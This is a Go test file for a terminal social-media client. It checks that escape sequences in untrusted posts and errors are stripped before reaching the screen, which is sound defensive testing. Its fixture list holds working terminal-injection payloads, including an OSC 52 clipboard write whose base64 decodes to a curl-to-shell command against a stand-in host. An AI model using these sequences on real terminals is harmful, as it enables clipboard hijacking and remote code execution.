package tui

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"github.com/crier-app/crier/sentiment/tone"
	"github.com/crier-app/crier/store"
	"github.com/crier-app/crier/tui/tuitest"
)

// hostile holds what a stranger's text may carry to take over a terminal:
// an OSC 52 clipboard write, a window title change, a cursor report request
// (which makes the terminal type an answer), a device control string, a
// screen clear and a bare bell.
var hostile = []string{
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"\x1b]2;you have been pwned\x1b\\",
	"\x1b]0;title\x07",
	"\x1b[6n",
	"\x1bP+q544e\x1b\\",
	"\x1b[2J",
	"\x9b31m", // a C1 CSI
	"\x07",
}

func hostileText(s string) string {
	var b bytes.Buffer
	for _, h := range hostile {
		b.WriteString(s)
		b.WriteString(h)
	}
	return b.String()
}

// TestHostileItemReachesTheTerminalAsText drives the real program and checks
// every byte it wrote to the terminal: an inbox item, its conversation, its
// preview, a failed reply's error and the reply composer all carry escape
// sequences, and none of them reaches the terminal, while the words around
// them do.
func TestHostileItemReachesTheTerminalAsText(t *testing.T) {
	ctx := context.Background()
	st := tuitest.Store(t)
	now := time.Now()
	acc, err := st.UpsertAccount(ctx, store.Account{Platform: store.PlatformMastodon, Handle: "bakery", Server: "example.social"})
	if err != nil {
		t.Fatal(err)
	}
	items := []store.InboxItem{{
		AccountID: acc, Platform: store.PlatformMastodon, RemoteID: "1", Kind: store.KindMention,
		AuthorHandle: hostileText("mallory") + "@evil.example", AuthorName: hostileText("Mal"),
		AuthorFollowers: 7, Body: hostileText("first"), URL: "https://evil.example/" + hostileText("p"),
		ReceivedAt: now.Add(-2 * time.Hour),
	}, {
		AccountID: acc, Platform: store.PlatformMastodon, RemoteID: "2", Kind: store.KindReply,
		AuthorHandle: "mallory@evil.example", AuthorName: hostileText("Mal"), AuthorFollowers: 7,
		Body: hostileText("second"), InReplyTo: "1", ThreadRoot: "1", ReceivedAt: now.Add(-time.Hour),
		Labels: []string{"ok"},
	}}
	if _, err := st.AddInboxItems(ctx, tone.Read(items)); err != nil {
		t.Fatal(err)
	}
	page, err := st.InboxPage(ctx, store.InboxFilter{}, nil, nil, 10)
	if err != nil || len(page) != 2 {
		t.Fatalf("stored %v, %v", page, err)
	}
	// A reply to the newer item that failed with the network's (hostile) words.
	post, err := st.QueueReply(ctx, page[0].ID, "thanks", now.Add(-30*time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	ds, _ := st.PostDeliveries(ctx, post)
	if _, err := st.ClaimDelivery(ctx, ds[0].ID, now); err != nil {
		t.Fatal(err)
	}
	if err := st.MarkFailed(ctx, ds[0].ID, hostileText("refused")); err != nil {
		t.Fatal(err)
	}

	clock := tuitest.NewClock(now.In(tuitest.Berlin))
	c := testCommon(t, st, clock)
	c.Now = time.Now
	app := tuitest.Start(t, clock, New(c, nil), 120, 40)
	// Every screen the program draws is kept: the renderer skips frames
	// that a newer one replaced before it drew, and none may escape.
	app.Record()
	app.Press("3")
	app.Advance(time.Second)                   // the cursor rests on the item: its conversation loads
	app.WaitView("Conversation, oldest first") // the newer item, with the older one above it
	app.WaitView("refused")                    // the failed reply's reason
	app.Press("j")
	app.Advance(time.Second)
	app.WaitView("https://evil.example/p")
	app.Press("k")
	app.Advance(time.Second)
	app.Press("r")
	app.WaitView("Reply to")
	app.Type(" and you")
	app.WaitView("and you")
	app.Press("esc", "q")
	app.Final()
	// What the terminal got, and every screen drawn for it.
	screen := append(app.Output(), []byte(strings.Join(app.Frames(), "\n"))...)

	for _, h := range hostile {
		if bytes.Contains(screen, []byte(h)) {
			t.Errorf("%q reached the terminal", h)
		}
	}
	// Nothing starts an OSC, a DCS or a C1 control, and no bell rings:
	// crier's own drawing needs none of them.
	for _, b := range [][]byte{[]byte("\x1b]"), []byte("\x1bP"), {0x9b}, {0x9d}, {0x07}} {
		if i := bytes.Index(screen, b); i >= 0 {
			t.Errorf("%q at byte %d: %q", b, i, screen[max(i-40, 0):min(i+40, len(screen))])
		}
	}
	for _, word := range []string{"first", "second", "Mal", "refused", "mallory"} {
		if !bytes.Contains(screen, []byte(word)) {
			t.Errorf("%q is not on the screen: the text around the escapes was lost", word)
		}
	}
}
